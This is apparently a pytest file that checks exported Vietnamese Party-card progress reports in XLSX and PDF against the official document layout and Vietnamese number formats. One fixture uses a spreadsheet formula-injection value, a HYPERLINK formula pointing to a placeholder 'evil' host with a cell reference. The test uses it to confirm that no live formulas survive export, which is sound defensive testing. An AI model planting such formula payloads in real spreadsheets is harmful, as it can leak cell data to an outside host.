"""The exported report, opened as an office would: the .xlsx with openpyxl, the PDF with pdftotext.

Written from the form of a Party document (Hướng dẫn 36-HD/VPTW): "ĐẢNG CỘNG SẢN VIỆT NAM" top right and
underlined, the issuing committee top left over "*" and "Số …-BC/…", "<place>, ngày dd tháng mm năm
yyyy" in italics, "BÁO CÁO" and its subject, the table, "T/M BAN THƯỜNG VỤ" and "Nơi nhận:"; and from
the issue: Vietnamese numbers ("1.860", "45,3 %"), no live formula in a spreadsheet.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from partycard.reports.documents import (
    Letterhead,
    letterhead_defaults,
    number_line,
    report_content,
    report_pdf,
    report_xlsx,
)
from partycard.reports.formats import vi_date, vi_document_date, vi_int, vi_percent
from tests.reports.hand_made import progress

DAY = dt.date(2026, 9, 2)


@pytest.fixture
def content() -> Any:
    org = progress(
        members=1860, eligible=1700, not_eligible=42, postponed=118, case_proposed=100, case_confirmed=130,
        case_accepted=770, card_received=300, card_active=250, old_recovered=200, old_destroyed=50,
        reasons={"dues_unpaid": 12, "not_official": 30}, on=DAY,
    )  # fmt: skip
    children = [
        progress("HN-BD", "Đảng bộ phường Ba Đình", members=1000, eligible=900, case_accepted=500,
                 card_active=100),
        progress("HN-X", '=HYPERLINK("http://evil/"&A1,"bấm")', members=860, eligible=800, card_active=150),
    ]  # fmt: skip
    return report_content(org, children, on=DAY)


@pytest.fixture
def head() -> Letterhead:
    return Letterhead(
        issuer="Thành ủy Hà Nội",
        issued_on=dt.date(2026, 9, 3),
        place="Hà Nội",
        symbol="TU",
        number="15",
        subject="tiến độ đổi thẻ đảng viên đến ngày 02/09/2026",
        signer="Nguyễn Văn An",
        recipients=("- Ban Tổ chức Trung ương,", "- Lưu Văn phòng Thành ủy."),
    )


def test_vietnamese_numbers_and_dates() -> None:
    assert vi_int(1860) == "1.860"
    assert vi_int(5_600_000) == "5.600.000"
    assert vi_percent(0.453) == "45,3 %"
    assert vi_percent(1) == "100,0 %"
    assert vi_date(dt.date(2026, 9, 2)) == "02/09/2026"
    # 36-HD/VPTW's own header: "Hà Nội, ngày 03 tháng 4 năm 2018"; days below 10 and months 1 and 2 padded.
    assert vi_document_date(dt.date(2018, 4, 3)) == "ngày 03 tháng 4 năm 2018"
    assert vi_document_date(dt.date(2026, 2, 15)) == "ngày 15 tháng 02 năm 2026"
    assert vi_document_date(dt.date(2026, 11, 20)) == "ngày 20 tháng 11 năm 2026"


def test_the_number_is_left_blank_for_the_clerk_unless_given(head: Letterhead) -> None:
    assert number_line(head) == "Số 15-BC/TU"
    blank = number_line(Letterhead(issuer="x", issued_on=DAY, place="", symbol="ĐU"))
    assert re.fullmatch(r"Số \s{4,}-BC/ĐU", blank)


def _cells(book: Any) -> dict[str, Any]:
    return {c.coordinate: c for row in book.active.iter_rows() for c in row if c.value is not None}


def test_xlsx_has_the_party_header_and_the_figures_as_numbers(head: Letterhead, content: Any) -> None:
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(head, content)))
    cells = _cells(book)
    by_text = {str(c.value): c for c in cells.values()}
    party = by_text["ĐẢNG CỘNG SẢN VIỆT NAM"]
    assert party.font.b and party.font.u == "single"
    issuer = by_text["THÀNH ỦY HÀ NỘI"]  # the committee in capitals, bold, top left
    assert issuer.font.b and issuer.column == 1 and issuer.row <= 2
    assert party.column > issuer.column and party.row == 1  # top right
    star = by_text["*"]
    assert star.column == 1 and star.row == issuer.row + 1
    assert by_text["Số 15-BC/TU"].row == star.row + 1
    date_line = by_text["Hà Nội, ngày 03 tháng 9 năm 2026"]
    assert date_line.font.i and date_line.row == 2
    assert by_text["BÁO CÁO"].font.b
    assert by_text["T/M BAN THƯỜNG VỤ"].font.b
    assert "Nơi nhận:" in by_text and "Nguyễn Văn An" in by_text
    # The figures are numbers an office can add up, with the grouping and percentage formats.
    rows = {c.row: c for c in cells.values() if c.column == 2}
    members = next(r for r, c in rows.items() if c.value == "Party members" or c.value == "Đảng viên")
    count = book.active.cell(row=members, column=3)
    assert count.value == 1860 and count.number_format == "#,##0"
    eligible = book.active.cell(row=members + 1, column=4)
    assert eligible.value == pytest.approx(1700 / 1860) and eligible.number_format == "0.0%"
    # The children and their total (the organisation itself).
    ba_dinh = by_text["Đảng bộ phường Ba Đình"]
    assert [book.active.cell(row=ba_dinh.row, column=c).value for c in (3, 4)] == [1000, 900]
    total = next(c for c in cells.values() if str(c.value).startswith("Tổng cộng"))
    assert book.active.cell(row=total.row, column=3).value == 1860


def test_xlsx_holds_no_formula_even_from_a_hostile_name(head: Letterhead, content: Any) -> None:
    data = report_xlsx(head, content)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = _cells(book)
    assert all(c.data_type != "f" for c in cells.values())
    hostile = next(c for c in cells.values() if str(c.value).startswith("=HYPERLINK"))
    assert hostile.data_type == "s" and hostile.quotePrefix
    dash = next(c for c in cells.values() if c.value == "- Ban Tổ chức Trung ương,")
    assert dash.quotePrefix  # "-" first: a spreadsheet could read it as a formula once edited
    assert b"<f>" not in _sheet_xml(data)


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def _pdf_text(data: bytes, tmp_path: Path) -> str:
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(data)
    result = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    )
    return result.stdout


def test_pdf_reads_as_a_party_report(head: Letterhead, content: Any, tmp_path: Path) -> None:
    data = report_pdf(head, content)
    assert data.startswith(b"%PDF")
    text = _pdf_text(data, tmp_path)
    lines = [line.strip() for line in text.splitlines() if line.strip()]
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in lines[0] and "THÀNH ỦY HÀ NỘI" in lines[0]
    assert lines[0].index("THÀNH ỦY") < lines[0].index("ĐẢNG CỘNG SẢN")  # issuer left, heading right
    assert re.search(r"Hà Nội, ngày 03 tháng 9 năm 2026", text)
    assert "Số 15-BC/TU" in text
    assert "BÁO CÁO" in text and "tiến độ đổi thẻ đảng viên đến ngày 02/09/2026" in text
    # Vietnamese numbers: thousands with a dot, shares with a comma and a space before "%".
    assert re.search(r"\b1\.860\b", text)
    assert "45,3 %" in text  # 770 accepted of 1.700 eligible
    assert "T/M BAN THƯỜNG VỤ" in text and "BÍ THƯ" in text and "Nguyễn Văn An" in text
    assert "Nơi nhận:" in text and "Lưu Văn phòng Thành ủy" in text
    assert "Đảng bộ phường Ba Đình" in text


def test_pdf_embeds_its_fonts(head: Letterhead, content: Any, tmp_path: Path) -> None:
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(report_pdf(head, content))
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
    rows = [line for line in fonts.splitlines()[2:] if line.strip()]
    assert rows and all(" yes " in f" {line} " for line in rows)
    assert any("NotoSerif" in line for line in rows)


def test_a_long_report_repeats_its_table_header(head: Letterhead, tmp_path: Path) -> None:
    org = progress(members=5_600_000, eligible=5_000_000)
    children = [
        progress(f"P{i:02d}", f"Đảng bộ tỉnh số {i}", members=100_000, eligible=90_000) for i in range(60)
    ]
    text = _pdf_text(report_pdf(head, report_content(org, children, on=DAY)), tmp_path)
    assert text.count("\f") >= 2  # several pages
    assert "5.600.000" in text
    assert text.count("Tổ chức đảng") >= 2  # the organisations' header on each page of the table


@pytest.mark.parametrize(
    ("name", "level", "parent", "issuer", "upper", "symbol", "behalf"),
    [
        ("Đảng bộ thành phố Hà Nội", 1, "Trung ương", "THÀNH ỦY HÀ NỘI", "", "TU", "T/M BAN THƯỜNG VỤ"),
        ("Đảng bộ tỉnh Sơn La", 1, "Trung ương", "TỈNH ỦY SƠN LA", "", "TU", "T/M BAN THƯỜNG VỤ"),
        ("Đảng bộ phường Ba Đình", 2, "Đảng bộ thành phố Hà Nội", "ĐẢNG ỦY PHƯỜNG BA ĐÌNH",
         "ĐẢNG BỘ THÀNH PHỐ HÀ NỘI", "ĐU", "T/M BAN THƯỜNG VỤ"),
        ("Chi bộ Giáo viên 1", 6, "Đảng bộ Trường THPT Phan Đình Phùng", "CHI BỘ GIÁO VIÊN 1",
         "ĐẢNG ỦY TRƯỜNG THPT PHAN ĐÌNH PHÙNG", "CB", "T/M CHI BỘ"),
    ],
)  # fmt: skip
def test_letterhead_defaults_name_the_issuing_committee(
    name: str, level: int, parent: str, issuer: str, upper: str, symbol: str, behalf: str
) -> None:
    got = letterhead_defaults(name=name, level=level, parent=parent, province="Đảng bộ thành phố Hà Nội")
    assert (got["issuer"], got["upper"], got["symbol"], got["on_behalf"]) == (issuer, upper, symbol, behalf)
    assert got["place"] == "Hà Nội"
    assert got["recipients"].splitlines()[-1].startswith("- Lưu")
